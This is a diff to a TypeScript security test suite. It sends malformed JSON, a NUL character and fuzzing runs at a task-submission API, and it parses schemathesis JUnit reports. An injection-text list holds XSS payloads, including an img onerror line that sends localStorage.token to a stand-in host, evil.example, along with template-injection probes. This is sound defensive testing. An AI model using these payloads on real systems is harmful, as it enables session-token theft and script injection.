@@ -140,6 +140,40 @@ export async function oversizedAndNested(
   ];
 }
 
+/** JSON of the wrong types: refused with 400, never coerced into text such as "[object Object]". */
+export async function wrongJsonTypes(ctx: Ctx, tq: TaskQuarterUnderTest): Promise<AttackResult> {
+  const unit = tq.units[0];
+  const token = await ctx.client.token(`${unit}.staff`);
+  const url = `${ctx.baseUrl}/api/task-quarters/${encodeURIComponent(tq.id)}/submissions`;
+  const cases: Array<[string, unknown]> = [
+    ['summary as an object', { status: 'completed', summary: { a: 1 } }],
+    ['summary as an array', { status: 'completed', summary: ['x'] }],
+    ['summary as a number', { status: 'completed', summary: 12345 }],
+    ['explanation as an object', { status: 'partial', summary: 'ok', explanation: { a: 'b' } }],
+    ['status as an array', { status: ['completed'], summary: 'ok' }],
+    ['summary as true', { status: 'completed', summary: true }],
+  ];
+  const letThrough: string[] = [];
+  for (const [label, body] of cases) {
+    const answer = await postJson(url, body, {
+      authorization: `Bearer ${token}`,
+      'idempotency-key': newKey('type'),
+    }).catch((e: Error) => ({ status: 0, body: e.message }));
+    if (answer.status !== 400) {
+      letThrough.push(
+        `${label}: HTTP ${answer.status} ${JSON.stringify(answer.body).slice(0, 120)}`,
+      );
+    }
+  }
+  const state = await queryState(ctx.temporal, tq.id);
+  for (const r of state.units.flatMap((u) => u.reports)) {
+    letThrough.push(
+      `stored: summary ${JSON.stringify(r.summary)}, explanation ${JSON.stringify(r.explanation)}`,
+    );
+  }
+  return { attack: 'JSON fields of the wrong type in a report', tried: cases.length, letThrough };
+}
+
 /** Writes in other content types: refused (415/400), never applied, never a 5xx. */
 export async function wrongContentTypes(ctx: Ctx, tq: TaskQuarterUnderTest): Promise<AttackResult> {
   const unit = tq.units[0];
@@ -187,7 +221,7 @@ export const INJECTION_TEXTS = [
   '<script>alert(document.cookie)</script>',
   '<img src=x onerror="fetch(`//evil.example/`+localStorage.token)">',
   '<a href="javascript:alert(1)">详情</a> &lt;b&gt; &amp;',
-  '{{7*7}} ${7*7} <%= 7*7 %> \u0000\u202e反转',
+  '{{7*7}} ${7*7} <%= 7*7 %> \u202e反转 \u0007',
 ];
 
 /**
@@ -245,6 +279,50 @@ export async function injectionTexts(ctx: Ctx, tq: TaskQuarterUnderTest): Promis
     tried,
     letThrough,
     notes: 'stored and returned as text, byte for byte',
+  };
+}
+
+/**
+ * A summary holding a NUL character (U+0000): Postgres text cannot hold it, so it must either be
+ * refused with a 4xx or be stored in a form the projection accepts; it must never be accepted by
+ * the workflow and then wedge the task-quarter's projection.
+ */
+export async function nulCharacter(ctx: Ctx, tq: TaskQuarterUnderTest): Promise<AttackResult> {
+  const letThrough: string[] = [];
+  const unit = tq.units[0];
+  const action = submission(ctx.markers, tq.id, unit, 'completed');
+  const summary = `${action.marker} 报送\u0000截断`;
+  action.body = { ...action.body, summary };
+  const outcome = await ctx.client.perform(action, { deadlineMs: 60_000 });
+  if (outcome.accepted) {
+    const state = await queryState(ctx.temporal, tq.id);
+    const deadline = Date.now() + 60_000;
+    let projected = false;
+    while (!projected && Date.now() < deadline) {
+      const rows = await ctx.sql<{ seq: number }>('SELECT seq FROM task_quarter WHERE id = $1', [
+        tq.id,
+      ]);
+      projected = Number(rows[0]?.seq) === state.seq;
+      if (!projected) await new Promise((r) => setTimeout(r, 500));
+    }
+    if (!projected) {
+      letThrough.push(
+        `accepted (HTTP ${outcome.status}) but never projected: Postgres rejects 0x00 in text, recordTaskQuarter retries forever and the task-quarter's projection stays behind`,
+      );
+    }
+    const later = await ctx.client
+      .perform(headDecision(ctx.markers, tq.id, unit, 'approve'), { deadlineMs: 60_000 })
+      .catch((e: Error) => e);
+    if (later instanceof Error) letThrough.push(`the next action got no answer: ${later.message}`);
+    else if (!later.accepted) letThrough.push(`the next action was refused: HTTP ${later.status}`);
+  }
+  return {
+    attack: 'a NUL character (U+0000) in a summary',
+    tried: 1,
+    letThrough,
+    notes: outcome.accepted
+      ? 'accepted by the API and the workflow'
+      : `refused: HTTP ${outcome.status}`,
   };
 }
 
@@ -430,10 +508,11 @@ export async function schemathesis(
   baseUrl: string,
   officeToken: string,
   reportDir: string,
-  { maxExamples = 25, maxTimeS = 240 } = {},
-): Promise<AttackResult & { output: string; exitCode: number | null }> {
+  { maxExamples = 25, maxTimeS = 180 } = {},
+): Promise<{ results: AttackResult[]; output: string; exitCode: number | null }> {
   const bin = await ensureSchemathesis();
   mkdirSync(reportDir, { recursive: true });
+  const junit = join(reportDir, 'junit.xml');
   const { code, output } = await runToEnd(
     bin,
     [
@@ -462,40 +541,66 @@ export async function schemathesis(
       '60',
       '--report',
       'junit',
-      '--report-dir',
-      reportDir,
+      '--report-junit-path',
+      junit,
       '--warnings',
       'off',
     ],
     { ...process.env, SCHEMATHESIS_TELEMETRY: 'false' },
     (maxTimeS + 300) * 1000,
   );
-  const tried = Number(
-    /(\d+)\s+generated/.exec(output)?.[1] ?? /(\d+) test cases/.exec(output)?.[1] ?? 0,
-  );
-  const letThrough = failuresOf(output);
-  if (code !== 0 && letThrough.length === 0) letThrough.push(`exit code ${code}`);
+  const tried = Number(/(\d+)\s+generated/.exec(output)?.[1] ?? 0);
+  const { serverErrors, schemaGaps } = existsSync(junit)
+    ? failuresFromJunit(readFileSync(junit, 'utf8'))
+    : { serverErrors: [`no JUnit report; exit code ${code}`], schemaGaps: [] };
   return {
-    attack: 'schemathesis fuzzing of /api/docs-json (office token)',
-    tried,
-    letThrough,
+    results: [
+      {
+        attack: 'schemathesis (office token): 5xx answers and bodies outside the documented schema',
+        tried,
+        letThrough: serverErrors,
+        notes: `schemathesis ${SCHEMATHESIS_VERSION}, exit code ${code}`,
+      },
+      {
+        attack:
+          'schemathesis: status codes and content types the OpenAPI document does not declare',
+        tried,
+        letThrough: schemaGaps,
+        notes: 'gaps in /api/docs-json, not in the answers themselves',
+      },
+    ],
     output,
     exitCode: code,
   };
 }
 
-/** The distinct failure headlines of a schemathesis run (`- Server error`, `- Response violates schema` …). */
-function failuresOf(output: string): string[] {
-  const found = new Map<string, number>();
-  let operation = '';
-  for (const line of output.split('\n')) {
-    const op = /^_+ (\S+ \S+) _+$/.exec(line.trim());
-    if (op) operation = op[1];
-    const failure = /^- (.+)$/.exec(line.trim());
-    if (failure && operation) {
-      const key = `${operation}: ${failure[1]}`;
-      found.set(key, (found.get(key) ?? 0) + 1);
+/** One line per operation and failed check, from the JUnit report: what came back, what is documented. */
+export function failuresFromJunit(xml: string): { serverErrors: string[]; schemaGaps: string[] } {
+  const unescape = (t: string): string =>
+    t
+      .replace(/&lt;/g, '<')
+      .replace(/&gt;/g, '>')
+      .replace(/&quot;/g, '"')
+      .replace(/&apos;/g, "'")
+      .replace(/&amp;/g, '&');
+  const serverErrors = new Set<string>();
+  const schemaGaps = new Set<string>();
+  for (const tc of xml.matchAll(/<testcase name="([^"]*)"[^>]*>([\s\S]*?)<\/testcase>/g)) {
+    const operation = unescape(tc[1]);
+    for (const f of tc[2].matchAll(/<failure[^>]*>([\s\S]*?)<\/failure>/g)) {
+      const body = unescape(f[1]);
+      const received = /Received: (\d+)/.exec(body)?.[1];
+      const documented = /Documented: ([^\n]*)/.exec(body)?.[1];
+      const curl = /(curl [^\n]*)/.exec(body)?.[1] ?? '';
+      for (const check of body.matchAll(/^- (ST\d+ [^\n]*)$/gm)) {
+        const line = `${operation}: ${check[1]}${received ? ` — received ${received}` : ''}${documented ? ` (documented: ${documented})` : ''}`;
+        if (/^ST10[12] /.test(check[1]) || (received && Number(received) >= 500)) {
+          serverErrors.add(`${line}; reproduce: ${curl}`);
+        } else {
+          schemaGaps.add(line);
+        }
+      }
     }
   }
-  return [...found.keys()];
+  return { serverErrors: [...serverErrors].sort(), schemaGaps: [...schemaGaps].sort() };
 }
